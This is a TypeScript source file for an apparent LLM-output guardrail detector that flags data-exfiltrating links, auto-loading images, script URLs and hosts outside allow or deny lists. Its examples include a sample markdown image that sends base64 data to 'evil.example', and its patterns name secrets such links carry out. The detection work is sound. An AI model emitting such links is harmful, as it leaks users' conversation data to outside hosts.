// The detector "url" finds links that carry data away, images that load automatically, obfuscated hosts, and hosts that
// are not allowed or are denied. Exfiltration by rendered links is described in
// https://genai.owasp.org/llmrisk/llm05-improper-output-handling/.

import type { JsonObject } from "@bufbuild/protobuf";
import { reads } from "../../text/normalize.ts";
import { type Detector, type Trigger, withoutInner } from "../detector-plan.ts";
import { openRun, openTail, withEdge } from "../edge.ts";
import type { Finding } from "../finding.ts";
import { textsParameter } from "../parameter.ts";
import { type HostLists, judgeLink } from "./link.ts";

const maxLinkLength = 2_048;
const linkUnits = /[^\s<>"'`{}|\\^\u3000-\u303f\uff00-\uffef]{1,2048}/y;
const templateLink =
  /[^\s<>"'`|\\^]{0,512}(?:\{\{?|\[|<)[A-Za-z_ ]{0,32}(?:data|conversation|history|message|summary|secret|prompt|context|password|email|content|info|text|answer|response|encoded|base64)[A-Za-z_ ]{0,32}(?:\}\}?|\]|>)/iy;

/** The detector "url". */
export const url: Detector = {
  definition: {
    id: "url",
    displayName: "Links",
    description:
      "Finds links and images that can carry data away, disguised and raw hosts, scripts in links, and hosts that are not allowed or that are denied.",
    version: "1.0.0",
    category: "security",
    tags: ["url", "exfiltration", "markdown", "phishing", "owasp-llm05"],
    categories: ["url.denied", "url.exfiltration", "url.image", "url.not_allowed", "url.script", "url.suspicious"],
    entities: [],
    languages: ["*"],
    costClass: "constant",
    scope: "local",
    defaultThreshold: 0.5,
    floor: 0.4,
    sensitivities: { strict: 0.4, balanced: 0.5, permissive: 0.8 },
    parameters: {
      type: "object",
      additionalProperties: false,
      properties: {
        allow: hostList("Hosts that links may lead to, subdomains included. When given, all others are findings."),
        deny: hostList("Hosts that links must not lead to, subdomains included."),
      },
    },
    references: [
      "https://genai.owasp.org/llmrisk/llm05-improper-output-handling/",
      "https://www.rfc-editor.org/rfc/rfc3986",
    ],
    measures: [
      {
        name: "recall",
        value: 0.864,
        data: "250 texts with links that carry data away, lead astray or run scripts, made up apart from the detector; 0.744 when first measured, before faults that other texts showed were mended",
      },
      { name: "false positive rate", value: 0, data: "300 ordinary links, made up apart from the detector" },
    ],
    examples: [
      { text: "![x](https://evil.example/c.png?data=am9obiBzbWl0aCBhY2NvdW50IDQy)", categories: ["url.exfiltration"] },
      { text: "See https://example.com/docs?page=2 for more.", categories: [] },
      {
        text: "See https://example.org/a and https://docs.example.com.",
        categories: ["url.not_allowed"],
        parameters: { allow: ["example.com"] },
      },
    ],
    check: () => [],
  },
  plan: (parameters) => {
    const lists = { allow: textsParameter(parameters, "allow"), deny: textsParameter(parameters, "deny") ?? [] };
    return {
      reads: reads.given | reads.normalAgain,
      phrases: [],
      patterns: [],
      triggers: [
        ...[linkTrigger(lists), ...bareTriggers(lists)].map((trigger) => ({ ...trigger, open: openLink(trigger) })),
        ...withEdge(scriptTriggers, openTail(64)),
      ],
      sweeps: [],
      settle: withoutInner,
    };
  },
};

function hostList(description: string): JsonObject {
  return {
    type: "array",
    description,
    minItems: 1,
    maxItems: 1_000,
    items: { type: "string", pattern: "^[A-Za-z0-9.-]{1,253}$" },
  };
}

function linkTrigger(lists: HostLists): Trigger {
  return {
    literal: "://",
    locate: (text, end) => {
      const scheme = /(?:https?|ftp|wss?)$/i.exec(text.slice(Math.max(0, end - 8), end - 3))?.[0];
      return scheme === undefined ? undefined : judgeAt(text, end - 3 - scheme.length, end, lists);
    },
  };
}

// Pictures and pages may be given without a scheme.
function bareTriggers(lists: HostLists): readonly Trigger[] {
  return ["](//", 'src="//', "src='//"].map((literal) => ({
    literal,
    locate: (text, end) => judgeAt(text, end - 2, end, lists),
  }));
}

// A link from `start` whose host follows the slashes.
function judgeAt(text: string, start: number, end: number, lists: HostLists): Finding | undefined {
  linkUnits.lastIndex = end;
  const rest = (linkUnits.exec(text)?.[0] ?? "").slice(0, maxLinkLength).replace(/[.,;:!?)\]*]+$/, "");
  const before = text.slice(Math.max(0, start - 260), start);
  templateLink.lastIndex = end;
  return judgeLink({ start, end: end + rest.length, rest, before, isTemplate: templateLink.test(text) }, lists);
}

const scriptTriggers: readonly Trigger[] = ["javascript:", "vbscript:", "data:text/html"].map((literal) => ({
  literal,
  locate: (text, end): Finding | undefined => {
    const start = end - literal.length;
    const isWord = /[A-Za-z0-9_]/.test(text[start - 1] ?? "");
    if (isWord || !/^(?:[^\s"'<>]{2}|[,;]<)/.test(text.slice(end, end + 2))) return undefined;
    const inLink = /(?:\]\(|(?:href|src|action)\s{0,3}=\s{0,3}["']?|<)$/i.test(
      text.slice(Math.max(0, start - 16), start),
    );
    const attributes = { basis: inLink ? "script as the target of a link" : "script address" };
    return { category: "url.script", start, end, score: inLink ? 0.95 : 0.6, attributes };
  },
}));

const openUnits = openRun(maxLinkLength + 16);
const maxTemplateLength = 640;

// A placeholder may contain spaces, so a link stays open for some units after it.
function openLink({ literal }: Trigger): (text: string, from: number) => number {
  return (text, from) => {
    const at = text.lastIndexOf(literal) - 8;
    return at >= from && at > text.length - maxTemplateLength - 8 ? at : openUnits(text, from);
  };
}
